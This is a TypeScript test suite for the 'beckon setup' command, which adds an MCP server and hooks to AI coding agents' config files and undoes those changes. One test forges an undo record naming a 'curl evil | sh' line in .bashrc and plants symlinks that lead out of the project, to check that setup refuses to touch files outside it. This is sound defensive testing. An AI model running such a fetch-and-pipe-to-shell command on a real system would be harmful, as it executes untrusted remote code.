import {
  chmodSync,
  existsSync,
  lstatSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs'
import { dirname, join, relative } from 'node:path'
import { describe, expect, it } from 'vitest'
import { agentNamed } from '../../src/setup/agents/index.ts'
import { carryOut, planChanges } from '../../src/setup/change.ts'
import { hashOf, readRecord, writeRecord } from '../../src/setup/record.ts'
import { runHere } from '../cli/program.ts'
import { createSandbox } from '../cli/sandbox.ts'
import { terminal } from '../cli/tmux.ts'

const agents = ['claude', 'codex', 'opencode', 'gemini'] as const

/** Files as people have them, for each agent: those that setup edits, and none of ours in them. */
const existing = {
  claude: {
    '.claude.json': '{"numStartups":3,"mcpServers":{"other":{"command":"x"}},"oauthAccount":{"token":"secret"}}',
    '.claude/settings.json': '{\r\n\t"model": "opus", // mine\r\n\t"hooks": { "PreToolUse": [{ "hooks": [] }] },\r\n}',
  },
  codex: {
    '.codex/config.toml': '\uFEFFmodel = "gpt-5"\n\n[mcp_servers.other]\ncommand = """\n[mcp_servers.beckon]"""',
    '.codex/hooks.json': '{ "hooks": {} }\n\n',
  },
  opencode: { '.config/opencode/opencode.jsonc': '// mine\n{\n    "mcp": {},\n    "theme": "é", /* last */\n}' },
  gemini: { '.gemini/settings.json': '' },
} satisfies Record<(typeof agents)[number], Record<string, string>>

describe.each(agents)('beckon setup %s', agent => {
  it('leaves every file as it was when it is undone, and does nothing when it runs twice', async () => {
    const sandbox = await createSetup()
    for (const [name, text] of Object.entries(existing[agent])) sandbox.write(name, text)
    const before = sandbox.files()

    const dry = await sandbox.setup(agent, '--dry-run')
    expect(dry.code, dry.stderr).toBe(0)
    expect(dry.stderr).toContain('beckon.js')
    expect(dry.stderr).not.toContain('"secret"')
    expect(dry.stderr.split('trap t TERM').length).toBeLessThanOrEqual(2)
    expect(sandbox.files()).toEqual(before)

    expect(await sandbox.setup(agent, '--yes')).toMatchObject({ code: 0 })
    const after = sandbox.files()
    expect(after).not.toEqual(before)
    const again = await sandbox.setup(agent, '--yes')
    expect(again).toMatchObject({ code: 0, stderr: expect.stringContaining('is already set up') })
    expect(sandbox.files()).toEqual(after)

    expect(await sandbox.setup(agent, '--undo', '--yes')).toMatchObject({ code: 0 })
    expect(sandbox.files()).toEqual(before)
    const undone = await sandbox.setup(agent, '--undo', '--yes')
    expect(undone).toMatchObject({ code: 0, stderr: expect.stringContaining('nothing to undo') })
  })

  it('makes files and folders where there are none, in a project too, and removes them again', async () => {
    const sandbox = await createSetup()
    const before = sandbox.files()
    for (const scope of [[], ['--project']]) {
      expect(await sandbox.setup(agent, '--yes', ...scope)).toMatchObject({ code: 0 })
      const [file = ''] = Object.keys(sandbox.files()).filter(file => !(file in before))
      expect(statSync(join(sandbox.user, file)).mode & 0o077).toBe(0)
      expect(await sandbox.setup(agent, '--undo', '--yes', ...scope)).toMatchObject({ code: 0 })
      expect(sandbox.files()).toEqual(before)
    }
  })

  it('writes absolute paths and the hub, and no secret', async () => {
    const sandbox = await createSetup()
    const env = { BECKON_URL: 'http://127.0.0.1:9', BECKON_KEY: 'the-key', BECKON_TOKEN: 'beckon_ask_token' }
    const answering = await sandbox.setupWith({ ...env, BECKON_TOKEN: 'beckon_answer_x' }, agent, '--yes')
    expect(answering).toMatchObject({ code: 5, stderr: expect.stringContaining('beckon token create --scope ask') })
    expect(await sandbox.setupWith(env, agent, '--yes')).toMatchObject({ code: 0 })
    const written = Object.values(sandbox.files()).join('\n')
    expect(written).toContain('http://127.0.0.1:9')
    expect(written).toContain(join(sandbox.home, 'setup/token'))
    expect(written).toContain(process.execPath)
    expect(written).not.toMatch(/the-key|beckon_ask_token/)
    expect(statSync(join(sandbox.home, 'setup/token')).mode & 0o777).toBe(0o600)
  })
})

describe('beckon setup', () => {
  it('lists the agents on this machine and what is connected', async () => {
    const sandbox = await createSetup()
    await sandbox.setup('gemini', '--yes', '--no-hooks')
    const { code, stdout } = await sandbox.setup('--json')
    expect(code).toBe(0)
    expect(JSON.parse(stdout).agents).toMatchObject([
      { agent: 'claude', version: '2.1.325', user: { mcp: false, hooks: false } },
      { agent: 'codex' },
      { agent: 'opencode' },
      { agent: 'gemini', user: { mcp: true, hooks: false }, project: { mcp: false, hooks: false } },
    ])
  })

  it('asks which agent is meant, instead of listing them, when it is told to do something', async () => {
    const sandbox = await createSetup()
    const missing = { code: 1, stdout: '', stderr: expect.stringContaining('as in "beckon setup claude --undo"') }
    expect(await sandbox.setup('--undo')).toMatchObject(missing)
    expect(await sandbox.setup('--no-hooks')).toMatchObject({ code: 1, stdout: '' })
  })

  it('asks on a terminal, and needs --yes without one', async () => {
    const sandbox = await createSetup()
    expect(await sandbox.setup('claude')).toMatchObject({ code: 1, stderr: expect.stringContaining('Add --yes') })
    expect(existsSync(join(sandbox.user, '.claude.json'))).toBe(false)
    const window = terminal(sandbox, ['setup', 'claude', '--no-hooks'], {
      HOME: sandbox.user,
      PATH: sandbox.variables.PATH,
    })
    await window.shows('Write this? [y/N]')
    window.type('y')
    await window.shows('is set up')
    expect(sandbox.read('.claude.json')).toContain('"beckon"')
  })

  it("keeps a request open for a day beside Claude's dialog, and otherwise for ten minutes", async () => {
    const sandbox = await createSetup()
    await sandbox.setup('claude', '--yes')
    const { hooks } = JSON.parse(sandbox.read('.claude/settings.json'))
    const limits = Object.entries<{ hooks: { timeout: number; command: string }[] }[]>(hooks).map(
      ([event, [group]]) => {
        const { timeout = 0, command = '' } = group?.hooks[0] ?? {}
        const [, script = 0] = /beckon-hook (\d+)/.exec(command) ?? []
        const [, wait = 0] = /--wait (\d+)s/.exec(command) ?? []
        return [event, Number(wait), Number(script), timeout]
      },
    )
    expect(limits).toEqual([
      ['PreToolUse', 570, 590, 600],
      ['PermissionRequest', 86_370, 86_390, 86_400],
      ['PostToolUse', 570, 590, 600],
      ['PostToolUseFailure', 570, 590, 600],
      ['Elicitation', 86_370, 86_390, 86_400],
    ])
  })

  it('gives no hooks to a Claude whose hooks fail open', async () => {
    const sandbox = await createSetup({ claude: '2.1.294 (Claude Code)' })
    const { code, stderr } = await sandbox.setup('claude', '--yes')
    expect({ code, stderr }).toMatchObject({ code: 0, stderr: expect.stringContaining('gets no hooks') })
    expect(existsSync(join(sandbox.user, '.claude/settings.json'))).toBe(false)
    expect(sandbox.read('.claude.json')).toContain('"beckon"')
    expect(await sandbox.setup('claude', '--yes', '--no-mcp')).toMatchObject({ code: 1 })
  })

  it('deletes the token with the last agent that uses it', async () => {
    const sandbox = await createSetup()
    const token = join(sandbox.home, 'setup/token')
    const remote = { BECKON_URL: 'http://127.0.0.1:9', BECKON_TOKEN: 'beckon_ask_token' }
    for (const agent of ['gemini', 'codex', 'opencode']) await sandbox.setupWith(remote, agent, '--yes')
    await sandbox.setup('gemini', '--undo', '--yes')
    // Connected to the hub of this machine instead, which needs none.
    await sandbox.setup('codex', '--yes')
    expect(readFileSync(token, 'utf8')).toBe('beckon_ask_token\n')
    await sandbox.setup('opencode', '--undo', '--dry-run')
    expect(existsSync(token)).toBe(true)
    await sandbox.setup('opencode', '--undo', '--yes')
    expect(existsSync(token)).toBe(false)
  })

  it('says that an agent is not there', async () => {
    const sandbox = await createSetup()
    const { code, stderr } = await sandbox.setupWith({ PATH: '/nowhere' }, 'codex', '--yes')
    expect({ code, stderr }).toMatchObject({ code: 4, stderr: expect.stringContaining('no codex on PATH') })
  })

  it('touches nothing where its entry was changed since, and keeps what changed beside it', async () => {
    const sandbox = await createSetup()
    sandbox.write('.claude.json', '{ "a": 1 }')
    await sandbox.setup('claude', '--yes')
    const settings = JSON.parse(sandbox.read('.claude/settings.json'))
    settings.hooks.PreToolUse[0].hooks[0].timeout = 5
    sandbox.write('.claude/settings.json', JSON.stringify(settings))
    const changed = sandbox.files()
    const refused = await sandbox.setup('claude', '--undo', '--yes')
    expect(refused).toMatchObject({ code: 1, stderr: expect.stringContaining('hooks.PreToolUse was changed since') })
    expect(sandbox.files()).toEqual(changed)

    // Claude rewrites its own file all the time.
    settings.hooks.PreToolUse[0].hooks[0].timeout = 600
    sandbox.write('.claude/settings.json', JSON.stringify({ ...settings, model: 'opus' }))
    sandbox.write('.claude.json', JSON.stringify({ ...JSON.parse(sandbox.read('.claude.json')), a: 2 }, null, 4))
    expect(await sandbox.setup('claude', '--undo', '--yes')).toMatchObject({ code: 0 })
    expect(JSON.parse(sandbox.read('.claude.json'))).toEqual({ a: 2 })
    expect(JSON.parse(sandbox.read('.claude/settings.json'))).toEqual({ model: 'opus' })
  })

  it('refuses an entry that somebody else wrote, and files that it cannot edit', async () => {
    const sandbox = await createSetup()
    sandbox.write('.claude.json', '{ "mcpServers": { "beckon": { "command": "mine" } } }')
    sandbox.write('.gemini/settings.json', Buffer.from([0x7b, 0xff, 0x7d]))
    sandbox.write('.codex/config.toml', 'model = "x\n')
    const before = sandbox.files()
    for (const agent of ['claude', 'gemini', 'codex']) {
      const { code, stderr } = await sandbox.setup(agent, '--yes')
      expect({ code, stderr }).toMatchObject({ code: 1, stderr: expect.stringContaining('Nothing was changed') })
    }
    expect(sandbox.files()).toEqual(before)
  })

  it('updates its own entry for another hub, and can still undo it', async () => {
    const sandbox = await createSetup()
    sandbox.write('.gemini/settings.json', '{"theme":"x"}\n')
    const before = sandbox.files()
    await sandbox.setup('gemini', '--yes')
    const other = { BECKON_HOME: join(sandbox.root, 'other') }
    expect(await sandbox.setupWith(other, 'gemini', '--yes')).toMatchObject({ code: 0 })
    expect(sandbox.read('.gemini/settings.json')).toContain(join(sandbox.root, 'other'))
    expect(sandbox.read('.gemini/settings.json')).not.toContain(sandbox.home)
    expect(await sandbox.setup('gemini', '--undo', '--yes')).toMatchObject({ code: 0 })
    expect(sandbox.files()).toEqual(before)
  })

  it('writes nothing outside of a project that brings a record or a link', async () => {
    const sandbox = await createSetup()
    const project = sandbox.cwd
    sandbox.write('.bashrc', 'alias ll=ls\n')
    sandbox.write('other.json', '{}')
    const evil = join(project, 'evil')
    const edits = [{ offset: 0, removed: 'curl evil | sh\n', inserted: '' }]
    const content = { format: 'whole' as const, text: '' }
    const forged = { path: join(sandbox.user, '.bashrc'), before: hashOf('x'), after: hashOf('alias ll=ls\n') ?? '' }
    const files = [{ ...forged, folders: [], content, made: [], edits }]
    writeRecord(evil, { version: 1, agent: 'gemini', project, at: '', files, previous: [] })
    mkdirSync(join(project, '.gemini'))
    const server = { command: 'x', args: [], env: { BECKON_HOME: evil } }
    writeFileSync(join(project, '.gemini/settings.json'), JSON.stringify({ mcpServers: { beckon: server } }))
    mkdirSync(join(project, '.claude'))
    symlinkSync(join(sandbox.user, 'other.json'), join(project, '.claude/settings.local.json'))
    symlinkSync(sandbox.user, join(project, '.opencode'))
    const theirs = () => readdirSync(sandbox.user).map(name => [name, sandbox.read(name)])
    const before = theirs()

    const undone = await sandbox.setup('gemini', '--project', '--undo', '--yes')
    expect(undone).toMatchObject({ code: 0, stderr: expect.stringContaining('nothing to undo') })
    for (const agent of ['claude', 'opencode']) {
      const { code, stderr } = await sandbox.setup(agent, '--project', '--yes')
      expect({ code, stderr }).toEqual({ code: 5, stderr: expect.stringContaining('leads out of the project') })
    }
    expect(theirs()).toEqual(before)
  })

  it('follows a link to the file, and keeps link and mode', async () => {
    const sandbox = await createSetup()
    sandbox.write('dotfiles/claude.json', '{}')
    chmodSync(join(sandbox.user, 'dotfiles/claude.json'), 0o644)
    symlinkSync('dotfiles/claude.json', join(sandbox.user, '.claude.json'))
    await sandbox.setup('claude', '--yes', '--no-hooks')
    expect(sandbox.read('dotfiles/claude.json')).toContain('"beckon"')
    expect(lstatSync(join(sandbox.user, '.claude.json')).isSymbolicLink()).toBe(true)
    expect(statSync(join(sandbox.user, 'dotfiles/claude.json')).mode & 0o777).toBe(0o644)
    await sandbox.setup('claude', '--undo', '--yes')
    expect(sandbox.read('dotfiles/claude.json')).toBe('{}')
  })

  it.each([0, 1])('can be undone or repeated after a crash with %i of its files written', async written => {
    const sandbox = await createSetup()
    sandbox.write('.claude.json', '{ "a": 1 }')
    mkdirSync(join(sandbox.user, '.claude'))
    const before = sandbox.files()
    const claude = agentNamed('claude')
    const place = { env: { HOME: sandbox.user }, project: null }
    const door = { node: '/node', beckon: '/beckon.js', env: { BECKON_HOME: '/h' }, opencodePlugin: () => '' }
    const wanted = claude?.files(place, door, { mcp: true, hooks: true, resume: false, review: false }) ?? []
    const changes = planChanges(wanted, null)
    // The file appears between the plan and the write, which ends setup there, as a crash would.
    const obstacle = changes[written]?.path ?? ''
    const planned = existsSync(obstacle) ? readFileSync(obstacle) : null
    writeFileSync(obstacle, '{ "in": "between" }')
    const name = { agent: 'claude', project: null }
    expect(() => carryOut(sandbox.home, name, changes, null)).toThrow('changed meanwhile')
    if (planned) writeFileSync(obstacle, planned)
    else rmSync(obstacle)

    expect(readRecord(sandbox.home, name)?.files).toHaveLength(2)
    expect(await sandbox.setup('claude', '--yes')).toMatchObject({ code: 0 })
    expect(await sandbox.setup('claude', '--undo', '--yes')).toMatchObject({ code: 0 })
    expect(sandbox.files()).toEqual(before)
  })
})

/** A home with an agent's programs on PATH that tell their versions. What they do with the files, test/agents shows. */
async function createSetup(versions: Record<string, string> = {}) {
  const sandbox = await createSandbox()
  const user = join(sandbox.root, 'user')
  const bin = join(sandbox.root, 'bin')
  for (const folder of [user, bin, join(sandbox.cwd, '.git')]) mkdirSync(folder, { recursive: true })
  const known = { claude: '2.1.325 (Claude Code)', codex: 'codex-cli 0.166.0', opencode: '1.18.33', gemini: '0.61.0' }
  for (const [name, version] of Object.entries({ ...known, ...versions })) {
    writeFileSync(join(bin, name), `#!/bin/sh\n[ "$1" = --version ] && echo "${version}"\n`, { mode: 0o755 })
  }
  const variables = {
    HOME: user,
    PATH: `${bin}:/usr/bin:/bin`,
    CODEX_HOME: undefined,
    CLAUDE_CONFIG_DIR: undefined,
    XDG_CONFIG_HOME: undefined,
    XDG_CACHE_HOME: join(sandbox.root, 'cache'),
  }
  return { ...sandbox, user, variables, setup, setupWith, write, read, files }

  function setup(...args: string[]) {
    return setupWith({}, ...args)
  }

  function setupWith(env: NodeJS.ProcessEnv, ...args: string[]) {
    return runHere(['setup', ...args], { cwd: sandbox.cwd, env: { ...sandbox.env, ...variables, ...env } })
  }

  function write(name: string, content: string | Buffer) {
    mkdirSync(dirname(join(user, name)), { recursive: true })
    writeFileSync(join(user, name), content)
  }

  function read(name: string): string {
    return readFileSync(join(user, name), 'utf8')
  }

  /** Every file and folder of the person and the project, byte for byte. */
  function files(): Record<string, string> {
    const found: Record<string, string> = {}
    for (const folder of [user, sandbox.cwd]) collect(folder, found)
    return found
  }

  function collect(folder: string, found: Record<string, string>) {
    for (const entry of readdirSync(folder, { withFileTypes: true, recursive: true })) {
      const path = join(entry.parentPath, entry.name)
      found[relative(user, path)] = entry.isDirectory() ? 'folder' : readFileSync(path, 'latin1')
    }
  }
}
